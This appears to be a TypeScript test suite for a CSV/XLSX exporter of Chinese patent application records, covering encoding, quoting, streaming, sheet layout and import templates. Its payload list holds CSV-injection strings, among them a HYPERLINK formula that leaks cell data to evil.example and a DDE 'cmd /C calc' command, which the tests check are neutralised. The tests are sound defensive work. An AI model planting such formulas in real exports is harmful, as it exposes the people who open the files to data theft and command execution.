import { readFile } from 'node:fs/promises';
import { PassThrough } from 'node:stream';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeTempDir, readAll } from './__tests__/table-fixtures.js';
import { matchHeaders } from './header-matching.js';
import { writeCsv, writeTemplate, writeXlsx, type TableRecord } from './table-writer.js';

let temp: Awaited<ReturnType<typeof makeTempDir>>;
beforeAll(async () => {
  temp = await makeTempDir();
});
afterAll(async () => {
  await temp.remove();
});

/** What an attacker types into a company name hoping the export runs it (OWASP CSV injection). */
const payloads = [
  '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
  "+cmd|' /C calc'!A0",
  '-1+1',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
];

const columns = [
  { header: '申请号', key: 'applicationNumber' },
  { header: '申请人', key: 'applicant' },
  { header: '权利要求数', key: 'claims' },
];

const payloadRows: TableRecord[] = payloads.map((payload, index) => ({
  applicationNumber: `20231012345${index}`,
  applicant: payload,
  claims: index,
}));

async function collect(write: (out: PassThrough) => Promise<void>): Promise<Buffer> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (chunk: Buffer) => chunks.push(chunk));
  await write(out);
  return Buffer.concat(chunks);
}

describe('writeCsv', () => {
  it('writes UTF-8 with a byte-order mark, CRLF line ends and RFC 4180 quoting', async () => {
    const path = temp.path('plain.csv');
    await writeCsv(
      {
        columns: [...columns, { header: '备注', key: 'note' }],
        rows: [
          { applicationNumber: '2023101234567', applicant: '金湖某公司, "新"材料', claims: 12, note: '第一行\n第二行' },
          { applicationNumber: '2023101234568', applicant: '个人', claims: 1e21, note: null },
          { applicationNumber: '2023101234569', applicant: '负数', claims: -5 },
        ],
      },
      path,
    );
    const bytes = await readFile(path);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.subarray(3).toString('utf8')).toBe(
      '申请号,申请人,权利要求数,备注\r\n' +
        '2023101234567,"金湖某公司, ""新""材料",12,"第一行\n第二行"\r\n' +
        '2023101234568,个人,1000000000000000000000,\r\n' +
        '2023101234569,负数,-5,\r\n',
    );
  });

  it('neutralises formula payloads so they read back as literal text', async () => {
    const path = temp.path('payloads.csv');
    await writeCsv({ columns, rows: payloadRows }, path);
    const text = (await readFile(path, 'utf8')).slice(1);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""点击查看"")"`);
    expect(text).toContain(`'+cmd|' /C calc'!A0`);

    const rows = await readAll({ path }, { fileName: 'payloads.csv' });
    expect(rows.map((row) => row.cells['申请人'])).toEqual(payloads.map((payload) => `'${payload}`));
    expect(rows.map((row) => row.cells['权利要求数'])).toEqual(payloads.map((_, index) => String(index)));
  });

  it('streams rows from an async source into a caller stream, ending it', async () => {
    async function* many(): AsyncGenerator<TableRecord> {
      for (let i = 0; i < 5000; i += 1) yield { applicationNumber: `CN${i}`, applicant: `企业${i}`, claims: i };
    }
    const bytes = await collect((out) => writeCsv({ columns, rows: many() }, out));
    const rows = await readAll({ buffer: bytes }, { fileName: 'many.csv' });
    expect(rows).toHaveLength(5000);
    expect(rows[4999]).toEqual({ rowNumber: 5001, cells: { 申请号: 'CN4999', 申请人: '企业4999', 权利要求数: '4999' } });
  });
});

describe('writeXlsx', () => {
  it('neutralises formula payloads so they read back as literal text, never as formulas', async () => {
    const path = temp.path('payloads.xlsx');
    await writeXlsx([{ name: '专利', columns, rows: payloadRows }], path);
    const rows = await readAll({ path }, { fileName: 'payloads.xlsx' });
    // XML turns a carriage return inside text into a line feed; the value stays literal text.
    const expected = payloads.map((payload) => `'${payload.replace('\r', '\n')}`);
    expect(rows.map((row) => row.cells['申请人'])).toEqual(expected);
    expect(rows.every((row) => row.formulaColumns === undefined)).toBe(true);

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(path);
    const cells = workbook.getWorksheet('专利')!.getColumn(2).values.slice(2) as unknown[];
    expect(cells.every((value) => typeof value === 'string')).toBe(true);
  });

  it('freezes a bold header row with an autofilter, keeps numbers numeric and long ids as text', async () => {
    const path = temp.path('layout.xlsx');
    await writeXlsx(
      [
        {
          name: '专利清单',
          columns: [...columns, { header: '费用（元）', key: 'fee', width: 14 }],
          rows: [{ applicationNumber: '2023101234567', applicant: '金湖某公司', claims: 12, fee: 1234.5 }],
        },
        { name: '第二页', columns: [{ header: '说明', key: 'text' }], rows: [{ text: '-' }] },
      ],
      path,
    );
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(path);
    const sheet = workbook.getWorksheet('专利清单')!;
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.autoFilter).toBe('A1:D1');
    expect(sheet.getRow(1).values).toEqual([undefined, '申请号', '申请人', '权利要求数', '费用（元）']);
    expect(sheet.getCell('A1').font?.bold).toBe(true);
    expect(sheet.getCell('A2').value).toBe('2023101234567');
    expect(sheet.getCell('C2').value).toBe(12);
    expect(sheet.getCell('D2').value).toBe(1234.5);
    expect(sheet.getColumn(4).width).toBe(14);
    expect(workbook.getWorksheet('第二页')!.getCell('A2').value).toBe("'-");
  });

  it('writes to a caller stream, ending it', async () => {
    const bytes = await collect((out) => writeXlsx([{ name: 's', columns, rows: payloadRows.slice(0, 2) }], out));
    expect(await readAll({ buffer: bytes }, { fileName: 'streamed.xlsx' })).toHaveLength(2);
  });
});

describe('writeTemplate', () => {
  it('writes a sheet to fill in and a notes sheet, and the template reads back through the importer path', async () => {
    const path = temp.path('template.xlsx');
    await writeTemplate(
      {
        sheetName: '专利清单',
        columns: [
          { header: '申请号', key: 'applicationNumber', required: true, note: '不含“CN”和小数点，如 2023101234567', numFmt: '@', width: 18 },
          { header: '申请日', key: 'applicationDate', required: true, note: '格式 YYYY-MM-DD' },
          { header: '申请人', key: 'applicant', required: true },
          { header: '常住人口（万人）', key: 'population' },
        ],
        example: { applicationNumber: '2023101234567', applicationDate: '2023-05-06', applicant: '金湖某机械有限公司', population: 33.5 },
        notes: ['第 1 行为列名，请勿修改。', '第 2 行为示例，导入前请删除。'],
      },
      path,
    );

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(path);
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['专利清单', '填写说明']);
    const notes = workbook.getWorksheet('填写说明')!;
    expect(notes.getSheetValues().slice(1).map((row) => (row as unknown[]).slice(1))).toEqual([
      ['列名', '是否必填', '填写说明'],
      [undefined, undefined, '第 1 行为列名，请勿修改。'],
      [undefined, undefined, '第 2 行为示例，导入前请删除。'],
      undefined,
      ['申请号', '必填', '不含“CN”和小数点，如 2023101234567'],
      ['申请日', '必填', '格式 YYYY-MM-DD'],
      ['申请人', '必填'],
      ['常住人口（万人）', '选填'],
    ]);
    expect(workbook.getWorksheet('专利清单')!.getColumn(1).numFmt).toBe('@');

    const rows = await readAll({ path }, { fileName: 'template.xlsx' });
    expect(rows).toEqual([
      {
        rowNumber: 2,
        cells: { 申请号: '2023101234567', 申请日: '2023-05-06', 申请人: '金湖某机械有限公司', '常住人口（万人）': '33.5' },
      },
    ]);
    const match = matchHeaders(Object.keys(rows[0]!.cells), [
      { key: 'applicationNumber', labels: ['申请号'], required: true },
      { key: 'population', labels: ['常住人口'], required: false },
    ]);
    expect(match.missing).toEqual([]);
    expect(match.units).toEqual({ population: '万人' });
  });
});
